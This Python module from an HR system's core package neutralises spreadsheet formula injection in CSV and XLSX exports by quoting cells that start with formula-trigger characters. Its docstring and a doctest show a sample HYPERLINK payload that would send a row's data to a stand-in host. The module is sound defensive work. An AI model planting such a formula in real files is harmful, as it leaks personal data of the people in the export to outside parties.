"""Writing CSV and XLSX files that cannot be turned against the people who open them.

A spreadsheet program takes a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some programs, a tab or a carriage return) as a formula: a person named
``=HYPERLINK("http://…"&A1,"click")`` would otherwise reach every HR officer who
opens an export as a live link that sends the row's data away (CSV injection,
OWASP). Every CSV and XLSX that hrsys writes goes through this module, which
neutralises such text cells the way OWASP recommends: a single quote in front
(``'=HYPERLINK(…)``), so the program shows the text and evaluates nothing.

What stays as it is:

- numbers (``int``, ``float``, ``Decimal``; not ``bool``): a negative number is an
  unquoted number in CSV and a numeric cell in XLSX;
- text that is a plain decimal number (``-3``, ``+66.5``, ``-1e3``): a program reads it
  as that number, which is no formula;
- dates (XLSX date cells; ISO text in CSV), and every other text.

In XLSX, characters that XML 1.0 cannot carry (control characters other than tab,
line feed and carriage return) are dropped, so that such a cell cannot make the
whole export fail.

Pure: no database, no domain module (``hrsys.core`` imports no domain).
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from typing import IO, Any

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")
"""Characters that make a spreadsheet program read a cell as a formula when they come first."""

XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MEDIA_TYPE = "text/csv; charset=utf-8"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: text that a program would run as a formula gets a ``'``
    in front; numbers, dates and other values are returned as they are.

    >>> neutralise('=HYPERLINK("http://x.example/?"&A1,"click")')
    '\\'=HYPERLINK("http://x.example/?"&A1,"click")'
    >>> neutralise(-3), neutralise("-3"), neutralise("@SUM(A1)"), neutralise("สมชาย")
    (-3, '-3', "'@SUM(A1)", 'สมชาย')
    """
    if isinstance(value, str) and value.startswith(DANGEROUS_FIRST) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def is_safe(value: Any) -> bool:
    """Whether a cell read back from a file is harmless (the oracle of the export tests)."""
    return not (isinstance(value, str) and value.startswith(DANGEROUS_FIRST) and not _PLAIN_NUMBER.fullmatch(value))


def csv_cell(value: Any) -> Any:
    """A value as the CSV writer should see it: None as an empty cell, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | decimal.Decimal | dt.date):
        return value
    if not isinstance(value, str):
        value = getattr(value, "value", value)  # enumerations: their value
        if not isinstance(value, str | int | float):
            value = str(value)
    return neutralise(value)


def xlsx_cell(value: Any) -> Any:
    """A value as an XLSX cell should hold it: numbers and dates typed, text neutralised and XML-safe."""
    if value is None or isinstance(value, bool | int | float | decimal.Decimal | dt.date | dt.time):
        return value
    if not isinstance(value, str):
        value = getattr(value, "value", value)
        if not isinstance(value, str):
            return value if isinstance(value, int | float) else str(value)
    return neutralise(_XML_ILLEGAL.sub("", value))


class CsvWriter:
    """:func:`csv.writer` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, fh: IO[str], **fmt: Any) -> None:
        self._writer = csv.writer(fh, **fmt)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fh: IO[str], **fmt: Any) -> CsvWriter:
    """A CSV writer over a text file whose cells are neutralised (``fmt``: :mod:`csv` format options)."""
    return CsvWriter(fh, **fmt)


def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True, **fmt: Any) -> bytes:
    """``rows`` as UTF-8 CSV (with a byte-order mark by default, so spreadsheet programs read Thai)."""
    buf = io.StringIO()
    if bom:
        buf.write("\ufeff")
    csv_writer(buf, **fmt).writerows(rows)
    return buf.getvalue().encode("utf-8")


def csv_stream(
    rows: Iterable[Iterable[Any]], *, bom: bool = True, chunk_rows: int = 1000, **fmt: Any
) -> Iterator[bytes]:
    """``rows`` as UTF-8 CSV in pieces of ``chunk_rows`` rows (constant memory for a large export)."""
    buf = io.StringIO()
    writer = csv_writer(buf, **fmt)
    if bom:
        buf.write("\ufeff")
    for i, row in enumerate(rows):
        writer.writerow(row)
        if i % chunk_rows == chunk_rows - 1:
            yield buf.getvalue().encode("utf-8")
            buf.seek(0)
            buf.truncate()
    if buf.tell():
        yield buf.getvalue().encode("utf-8")


def xlsx_row(row: Iterable[Any]) -> list[Any]:
    """A row for ``worksheet.append`` (any openpyxl worksheet, write-only ones too)."""
    return [xlsx_cell(v) for v in row]


def append(ws: Any, row: Iterable[Any]) -> None:
    """Append ``row`` to an openpyxl worksheet, every cell through :func:`xlsx_cell`."""
    ws.append(xlsx_row(row))


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Sequence[Any]]]]) -> bytes:
    """A workbook (openpyxl write-only mode: constant memory per row) with one sheet per ``(title, rows)``."""
    import openpyxl  # a heavy library, loaded only by the exports that write XLSX

    wb = openpyxl.Workbook(write_only=True)
    for title, rows in sheets:
        ws = wb.create_sheet(title)
        for row in rows:
            append(ws, row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
